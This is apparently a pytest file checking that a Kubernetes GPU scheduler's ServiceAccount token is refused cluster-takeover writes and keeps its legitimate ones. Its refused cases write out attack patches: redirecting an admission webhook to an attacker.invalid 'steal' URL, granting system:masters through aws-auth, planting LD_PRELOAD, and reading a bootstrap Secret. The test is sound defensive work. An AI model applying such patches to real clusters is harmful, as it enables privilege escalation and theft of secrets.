"""The scheduler's token does the scheduler's work and nothing more: the shipped RBAC and admission policies.

The token is the one a pod of the scheduler's Deployment mounts: a
ServiceAccount token bound to a pod in the gpuwarden namespace. Every
refused write below was answered 200 before the admission policies
(manifests/scheduler/admission-policy.yaml) and the narrower RBAC; every
allowed one is a write the scheduler really makes, in the shape its code
sends it.
"""

from __future__ import annotations

import contextlib
import copy
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client

from gpuwarden import contract
from scheduler.cluster.sliceconfig import config_map_name
from tests.harness import ControlPlane, create_gpu_node, pod_bound_token, unique_name
from tests.scheduler.cluster.kube_objects import publish_health
from tests.waiting import wait_for

pytestmark = [pytest.mark.k8s, pytest.mark.usefixtures("scheduler_rbac", "scheduler_crds", "gpunode_crd")]

SA = "gpuwarden-scheduler"
SA_NAMESPACE = "gpuwarden"
WEBHOOK = "gpuwarden-webhook"
MERGE = "application/merge-patch+json"
POLICY = Path(__file__).resolve().parents[3] / "manifests" / "scheduler" / "admission-policy.yaml"


def _status(call: Callable[[], Any]) -> int:
    """The HTTP status of one request (200 when it was allowed)."""
    try:
        call()
    except client.ApiException as exc:
        return int(exc.status)
    return 200


@pytest.fixture
def scheduler_token(control_plane: ControlPlane, k8s: client.ApiClient) -> Iterator[client.ApiClient]:
    """A client with the token a scheduler pod mounts (bound to a pod of the ServiceAccount)."""
    with pod_bound_token(k8s, SA, SA_NAMESPACE) as token:
        config = control_plane.configuration()
        config.api_key = {"authorization": token}
        with client.ApiClient(config) as api:
            yield api


@pytest.fixture
def node(k8s: client.ApiClient) -> Iterator[str]:
    name = unique_name("token-node")
    create_gpu_node(k8s, name, gpus=8)
    publish_health(k8s, name)
    try:
        yield name
    finally:
        with contextlib.suppress(client.ApiException):
            client.CoreV1Api(k8s).delete_node(name)
        with contextlib.suppress(client.ApiException):
            client.CustomObjectsApi(k8s).delete_cluster_custom_object(
                contract.API_GROUP, contract.API_VERSION, contract.GPUNODE_PLURAL, name
            )


@pytest.fixture
def webhook_configuration(k8s: client.ApiClient) -> Iterator[str]:
    """The scheduler's own MutatingWebhookConfiguration, sending nothing anywhere (no pod carries its label)."""
    admission = client.AdmissionregistrationV1Api(k8s)
    with contextlib.suppress(client.ApiException):
        admission.delete_mutating_webhook_configuration(WEBHOOK)
    admission.create_mutating_webhook_configuration(
        {
            "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": WEBHOOK},
            "webhooks": [
                {
                    "name": "gpu-sharing.scheduling.gpuwarden.io",
                    "admissionReviewVersions": ["v1"],
                    "sideEffects": "None",
                    "failurePolicy": "Fail",
                    "clientConfig": {"service": {"name": WEBHOOK, "namespace": SA_NAMESPACE, "path": "/mutate"}},
                    "rules": [
                        {"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}
                    ],
                    "objectSelector": {"matchLabels": {"test.gpuwarden.io/never-set": "x"}},
                }
            ],
        }
    )
    try:
        yield WEBHOOK
    finally:
        with contextlib.suppress(client.ApiException):
            admission.delete_mutating_webhook_configuration(WEBHOOK)


def _wait_for_policies(core: client.CoreV1Api, namespace: str) -> None:
    """Until the API server enforces the policies, which take effect a moment after they are created.

    The probe creates a ConfigMap that is no GPU slice's under a new name
    each time: one admitted before the policy loaded is harmless litter in
    the test's namespace.
    """

    def refused() -> bool:
        probe = {"metadata": {"name": unique_name("probe")}, "data": {"k": "v"}}
        return _status(lambda: core.create_namespaced_config_map(namespace, probe)) == 403

    wait_for(refused, timeout=30, interval=0.5, description="the scheduler's admission policies in force")


def _slice_map(owner: client.V1Pod, data: dict[str, str]) -> dict[str, Any]:
    """A GPU slice ConfigMap as sliceconfig.py writes it, for ``owner``, holding ``data``."""
    name = owner.metadata.name
    return {
        "metadata": {
            "name": config_map_name(name),
            "labels": {"app.kubernetes.io/managed-by": contract.SCHEDULER_COMPONENT},
            "ownerReferences": [
                {"apiVersion": "v1", "kind": "Pod", "name": name, "uid": owner.metadata.uid, "controller": True}
            ],
        },
        "data": data,
    }


def _unscheduled(name: str) -> dict[str, Any]:
    """A pod no scheduler takes: the test binds it itself."""
    return {
        "metadata": {"name": name},
        "spec": {"schedulerName": "nobody", "containers": [{"name": "c", "image": "x"}]},
    }


def _running_pod(k8s: client.ApiClient, namespace: str, node: str, name: str) -> client.V1Pod:
    return client.CoreV1Api(k8s).create_namespaced_pod(
        namespace,
        client.V1Pod(
            metadata=client.V1ObjectMeta(name=name, labels={"app": name}),
            spec=client.V1PodSpec(
                node_name=node, containers=[client.V1Container(name="c", image="registry.invalid/system:1")]
            ),
        ),
    )


def test_the_scheduler_token_cannot_take_over_the_cluster(
    k8s: client.ApiClient,
    scheduler_token: client.ApiClient,
    node: str,
    webhook_configuration: str,
    namespace: str,
) -> None:
    core = client.CoreV1Api(scheduler_token)
    admin = client.CoreV1Api(k8s)
    _wait_for_policies(core, namespace)
    with contextlib.suppress(client.ApiException):  # the test control plane starts without it
        admin.create_namespace({"metadata": {"name": "kube-system"}})
    system_pod = _running_pod(k8s, "kube-system", node, unique_name("coredns"))
    victim = admin.create_namespaced_pod(namespace, _unscheduled("victim"))
    for name, ns in (("aws-auth", "kube-system"), ("gpuwarden-agent-test", SA_NAMESPACE)):
        with contextlib.suppress(client.ApiException):
            admin.create_namespaced_config_map(ns, {"metadata": {"name": name}, "data": {"k": "v"}})
    admission = client.AdmissionregistrationV1Api(scheduler_token)
    custom = client.CustomObjectsApi(scheduler_token)
    gpunode = (contract.API_GROUP, contract.API_VERSION, contract.GPUNODE_PLURAL, node)
    redirect = {
        "webhooks": [
            {
                "name": "gpu-sharing.scheduling.gpuwarden.io",
                "clientConfig": {"url": "https://attacker.invalid/steal", "service": None},
                "failurePolicy": "Ignore",
            }
        ]
    }
    widen = {
        "webhooks": [
            {
                "name": "gpu-sharing.scheduling.gpuwarden.io",
                "rules": [
                    {
                        "operations": ["CREATE", "UPDATE"],
                        "apiGroups": [""],
                        "apiVersions": ["v1"],
                        "resources": ["secrets", "configmaps"],
                    }
                ],
                "objectSelector": {},
            }
        ]
    }
    refused = {
        "change the image of a running kube-system pod": lambda: core.patch_namespaced_pod(
            system_pod.metadata.name,
            "kube-system",
            {"spec": {"containers": [{"name": "c", "image": "registry.invalid/evil:1"}]}},
        ),
        "send its webhook's requests elsewhere, failing open": lambda: admission.patch_mutating_webhook_configuration(
            webhook_configuration, redirect
        ),
        "send Secrets and ConfigMaps to its webhook": lambda: admission.patch_mutating_webhook_configuration(
            webhook_configuration, widen
        ),
        "patch kube-system/aws-auth": lambda: core.patch_namespaced_config_map(
            "aws-auth", "kube-system", {"data": {"mapRoles": "- rolearn: x\n  groups: [system:masters]"}}
        ),
        "patch the agent's ConfigMap": lambda: core.patch_namespaced_config_map(
            "gpuwarden-agent-test", SA_NAMESPACE, {"data": {"k": "evil"}}
        ),
        "create a ConfigMap that is no GPU slice's": lambda: core.create_namespaced_config_map(
            namespace, {"metadata": {"name": "innocent"}, "data": {"k": "v"}}
        ),
        "plant LD_PRELOAD in a slice pod's environment": lambda: core.create_namespaced_config_map(
            namespace, _slice_map(victim, {"LD_PRELOAD": "/tmp/evil.so"})
        ),
        "take another pod's slice ConfigMap name": lambda: core.create_namespaced_config_map(
            namespace,
            {**_slice_map(victim, {}), "metadata": {**_slice_map(victim, {})["metadata"], "name": "other-gpu-slice"}},
        ),
        "delete a kube-system pod, past its disruption budget": lambda: core.delete_namespaced_pod(
            system_pod.metadata.name, "kube-system"
        ),
        "taint a node NoExecute": lambda: core.patch_node(
            node, {"spec": {"taints": [{"key": "evict-everything", "effect": "NoExecute"}]}}
        ),
        "make its own taint NoExecute": lambda: core.patch_node(
            node, {"spec": {"taints": [{"key": contract.TAINT_QUARANTINE, "effect": "NoExecute"}]}}
        ),
        "label a node as control plane": lambda: core.patch_node(
            node, {"metadata": {"labels": {"node-role.kubernetes.io/control-plane": ""}}}
        ),
        "annotate a node outside gpuwarden.io": lambda: core.patch_node(
            node, {"metadata": {"annotations": {"example.com/owner": "me"}}}
        ),
        "change a node's provider ID": lambda: core.patch_node(node, {"spec": {"providerID": "aws:///evil"}}),
        "label a GPUNode": lambda: custom.patch_cluster_custom_object(
            *gpunode, {"metadata": {"labels": {"example.com/x": "y"}}}, _content_type=MERGE
        ),
        "write a GPUNode's health": lambda: custom.patch_cluster_custom_object_status(
            *gpunode, {"status": {"gpus": []}}, _content_type=MERGE
        ),
        "mark a kube-system pod Succeeded": lambda: core.patch_namespaced_pod_status(
            system_pod.metadata.name, "kube-system", {"status": {"phase": "Succeeded"}}
        ),
        "mark a pod Ready": lambda: core.patch_namespaced_pod_status(
            system_pod.metadata.name,
            "kube-system",
            {"status": {"conditions": [{"type": "Ready", "status": "False", "reason": "Planted"}]}},
        ),
        "label a pod through its status": lambda: core.patch_namespaced_pod_status(
            system_pod.metadata.name, "kube-system", {"metadata": {"labels": {"app": "planted"}}}
        ),
        "read a Secret": lambda: core.read_namespaced_secret("bootstrap-token", "kube-system"),
        "create a pod": lambda: core.create_namespaced_pod(
            namespace, {"metadata": {"name": "x"}, "spec": {"containers": [{"name": "c", "image": "x"}]}}
        ),
    }
    answers = {what: _status(call) for what, call in refused.items()}
    assert answers == dict.fromkeys(refused, 403)
    stored = admin.read_node(node)
    assert "node-role.kubernetes.io/control-plane" not in (stored.metadata.labels or {})
    assert not [t for t in stored.spec.taints or [] if t.effect == "NoExecute"]
    hook = client.AdmissionregistrationV1Api(k8s).read_mutating_webhook_configuration(webhook_configuration)
    assert hook.webhooks[0].failure_policy == "Fail"
    assert hook.webhooks[0].client_config.url is None
    assert admin.read_namespaced_config_map("aws-auth", "kube-system").data == {"k": "v"}
    admin.delete_namespaced_pod(system_pod.metadata.name, "kube-system", grace_period_seconds=0)
    for name, ns in (("aws-auth", "kube-system"), ("gpuwarden-agent-test", SA_NAMESPACE)):
        admin.delete_namespaced_config_map(name, ns)


def test_every_write_the_scheduler_makes_is_still_allowed(
    k8s: client.ApiClient,
    scheduler_token: client.ApiClient,
    node: str,
    webhook_configuration: str,
    namespace: str,
) -> None:
    core = client.CoreV1Api(scheduler_token)
    admin = client.CoreV1Api(k8s)
    _wait_for_policies(core, namespace)
    # Remediation: cordon, its own taint, its label and record, decided from the Node's resourceVersion.
    version = admin.read_node(node).metadata.resource_version
    quarantine = {
        "metadata": {
            "resourceVersion": version,
            "labels": {contract.LABEL_REMEDIATION_STATE: "quarantined"},
            "annotations": {contract.ANNOTATION_QUARANTINED_GPUS: "3"},
        },
        "spec": {
            "unschedulable": True,
            "taints": [{"key": contract.TAINT_QUARANTINE, "effect": "NoSchedule"}],
        },
    }
    assert _status(lambda: core.patch_node(node, quarantine)) == 200
    # The same patch again is stale: its resourceVersion is from before the first.
    assert _status(lambda: core.patch_node(node, quarantine)) == 409
    release = {"metadata": {"labels": {contract.LABEL_REMEDIATION_STATE: None}}, "spec": {"taints": None}}
    assert _status(lambda: core.patch_node(node, release)) == 200
    # Its requests to the agent.
    custom = client.CustomObjectsApi(scheduler_token)
    gpunode = (contract.API_GROUP, contract.API_VERSION, contract.GPUNODE_PLURAL, node)
    request = {
        "spec": {contract.GPUNODE_REMEDIATION: {contract.REMEDIATION_RESETS: [], contract.REMEDIATION_VALIDATIONS: []}}
    }
    assert _status(lambda: custom.patch_cluster_custom_object(*gpunode, request, _content_type=MERGE)) == 200
    # The webhook's certificate rotation: the caBundle and nothing else.
    admission = client.AdmissionregistrationV1Api(scheduler_token)
    bundle = {"webhooks": [{"name": "gpu-sharing.scheduling.gpuwarden.io", "clientConfig": {"caBundle": "Y2E="}}]}
    assert _status(lambda: admission.patch_mutating_webhook_configuration(webhook_configuration, bundle)) == 200
    # A GPU slice pod's ConfigMap, created and rewritten.
    slice_pod = admin.create_namespaced_pod(
        namespace,
        {
            "metadata": {"name": "slice"},
            "spec": {"schedulerName": "nobody", "containers": [{"name": "c", "image": "x"}]},
        },
    )
    slice_map = _slice_map(slice_pod, {"CUDA_DEVICE_MEMORY_LIMIT": "40960m", "NVIDIA_VISIBLE_DEVICES": "GPU-1"})
    assert _status(lambda: core.create_namespaced_config_map(namespace, slice_map)) == 200
    # Rewritten as sliceconfig.py does it: a JSON patch conditional on the owner, setting the fence's
    # annotations (none here: a replica without a lease; the fence itself is tested in test_fence_k8s.py).
    rewrite = [
        {"op": "test", "path": "/metadata/ownerReferences/0/uid", "value": slice_pod.metadata.uid},
        {"op": "replace", "path": "/data", "value": {"CUDA_DEVICE_MEMORY_LIMIT": "20480m"}},
        {"op": "add", "path": "/metadata/annotations", "value": {}},
    ]
    answer = _status(
        lambda: core.patch_namespaced_config_map(
            config_map_name("slice"), namespace, rewrite, _content_type="application/json-patch+json"
        )
    )
    assert answer == 200
    # Why a pod it cannot group waits: the PodScheduled condition of a pending pod.
    waiting = {"type": "PodScheduled", "status": "False", "reason": "Unschedulable", "message": "no PodGroup g"}
    assert (
        _status(lambda: core.patch_namespaced_pod_status("slice", namespace, {"status": {"conditions": [waiting]}}))
        == 200
    )
    # Binds and evictions of its own pods.
    assert (
        _status(
            lambda: core.create_namespaced_pod_binding(
                "slice",
                namespace,
                {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "slice"}, "target": {"name": node}},
                _preload_content=False,
            )
        )
        == 200
    )
    eviction = {"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "slice", "namespace": namespace}}
    assert (
        _status(lambda: core.create_namespaced_pod_eviction("slice", namespace, eviction, _preload_content=False))
        == 200
    )
    # The delete-after-timeout drain: only where the namespace's admins allow it, only a bound pod.
    doomed = _running_pod(k8s, namespace, node, "doomed")
    assert _status(lambda: core.delete_namespaced_pod("doomed", namespace)) == 403
    admin.patch_namespace(namespace, {"metadata": {"labels": {contract.LABEL_DRAIN_POLICY: "delete-after-timeout"}}})
    wait_for(
        lambda: (
            _status(
                lambda: core.delete_namespaced_pod(
                    "doomed", namespace, body={"preconditions": {"uid": doomed.metadata.uid}}
                )
            )
            == 200
        ),
        timeout=10,
        description="the labelled namespace's bound pod deleted",
    )
    unbound = admin.create_namespaced_pod(
        namespace,
        {
            "metadata": {"name": "unbound"},
            "spec": {"schedulerName": "nobody", "containers": [{"name": "c", "image": "x"}]},
        },
    )
    assert _status(lambda: core.delete_namespaced_pod(unbound.metadata.name, namespace)) == 403


def test_every_pod_status_field_but_conditions_is_held_by_the_policy(control_plane: ControlPlane) -> None:
    """Each field of PodStatus this API server serves is named by the scheduler's pod-status policy.

    A release that adds a field to PodStatus fails this test until the
    policy holds it too.
    """
    schema = json.loads(control_plane.kubectl("get", "--raw", "/openapi/v3/api/v1").stdout)
    fields = set(schema["components"]["schemas"]["io.k8s.api.core.v1.PodStatus"]["properties"]) - {"conditions"}
    docs = yaml.safe_load_all(POLICY.read_text())
    policy = next(d for d in docs if d and d["metadata"]["name"] == "gpuwarden-scheduler-pod-status")
    expressions = " ".join(v["expression"] for v in policy["spec"]["validations"])
    missing = {f for f in fields if f"object.?status.?{f} == oldObject.?status.?{f}" not in expressions}
    assert missing == set()


def test_the_scheduler_token_allocates_claims_but_cannot_make_or_delete_them(
    k8s: client.ApiClient, scheduler_token: client.ApiClient, namespace: str
) -> None:
    dra = ("resource.k8s.io", "v1")
    admin = client.CustomObjectsApi(k8s)
    custom = client.CustomObjectsApi(scheduler_token)
    name = unique_name("claim")
    body = {
        "apiVersion": "resource.k8s.io/v1",
        "kind": "ResourceClaim",
        "metadata": {"name": name},
        "spec": {"devices": {"requests": [{"name": "gpu", "exactly": {"deviceClassName": "gpu.nvidia.com"}}]}},
    }
    admin.create_namespaced_custom_object(*dra, namespace, "resourceclaims", body)
    try:
        # What scheduler/cluster/claimbind.py writes: the finalizer, then allocation and reservation.
        claim = custom.get_namespaced_custom_object(*dra, namespace, "resourceclaims", name)
        claim["metadata"]["finalizers"] = ["resource.kubernetes.io/delete-protection"]
        claim = custom.replace_namespaced_custom_object(*dra, namespace, "resourceclaims", name, claim)
        claim["status"] = {
            "allocation": {
                "devices": {
                    "results": [{"request": "gpu", "driver": "gpu.nvidia.com", "pool": "n", "device": "gpu-0"}]
                },
                "nodeSelector": {
                    "nodeSelectorTerms": [
                        {"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["n"]}]}
                    ]
                },
            },
            "reservedFor": [{"resource": "pods", "name": "p", "uid": "00000000-0000-0000-0000-000000000001"}],
        }
        assert (
            _status(
                lambda: custom.replace_namespaced_custom_object_status(*dra, namespace, "resourceclaims", name, claim)
            )
            == 200
        )
        # Its lease stamp (the fence's term, claimbind) it may set; no other annotation, nor labels.
        claim = custom.get_namespaced_custom_object(*dra, namespace, "resourceclaims", name)
        claim["metadata"]["annotations"] = {contract.ANNOTATION_LEASE_HOLDER: "replica#0"}
        claim = custom.replace_namespaced_custom_object(*dra, namespace, "resourceclaims", name, claim)
        for key, value in (("labels", {"team": "stolen"}), ("annotations", {"owner": "stolen"})):
            changed = copy.deepcopy(claim)
            changed["metadata"][key] = {**(changed["metadata"].get(key) or {}), **value}
            assert (
                _status(
                    lambda body=changed: custom.replace_namespaced_custom_object(  # type: ignore[misc]
                        *dra, namespace, "resourceclaims", name, body
                    )
                )
                == 403
            ), key
        # The resourceclaim controller makes and deletes users' claims, not the scheduler.
        other = {**body, "metadata": {"name": unique_name("claim")}}
        assert _status(lambda: custom.create_namespaced_custom_object(*dra, namespace, "resourceclaims", other)) == 403
        assert _status(lambda: custom.delete_namespaced_custom_object(*dra, namespace, "resourceclaims", name)) == 403
        # The claim of a pod's extended resources (KEP-5004) it makes and deletes, as kube-scheduler does.
        owner = client.CoreV1Api(k8s).create_namespaced_pod(
            namespace,
            {"metadata": {"name": "ext"}, "spec": {"containers": [{"name": "c", "image": "registry.invalid/x:1"}]}},
        )
        extended = {
            **body,
            "metadata": {
                "generateName": "ext-extended-resources-",
                "annotations": {"resource.kubernetes.io/extended-resource-claim": "true"},
                "ownerReferences": [
                    {"apiVersion": "v1", "kind": "Pod", "name": "ext", "uid": owner.metadata.uid, "controller": True}
                ],
            },
        }
        made = custom.create_namespaced_custom_object(*dra, namespace, "resourceclaims", extended)
        made_name = made["metadata"]["name"]
        assert (
            _status(lambda: custom.delete_namespaced_custom_object(*dra, namespace, "resourceclaims", made_name)) == 200
        )
        unowned = {**extended, "metadata": {**extended["metadata"], "ownerReferences": []}}
        assert (
            _status(lambda: custom.create_namespaced_custom_object(*dra, namespace, "resourceclaims", unowned)) == 403
        )
        template = {
            "apiVersion": "resource.k8s.io/v1",
            "kind": "ResourceClaimTemplate",
            "metadata": {"name": name},
            "spec": {"spec": body["spec"]},
        }
        assert (
            _status(lambda: custom.create_namespaced_custom_object(*dra, namespace, "resourceclaimtemplates", template))
            == 403
        )
    finally:
        admin.patch_namespaced_custom_object(
            *dra, namespace, "resourceclaims", name, {"metadata": {"finalizers": None}}
        )
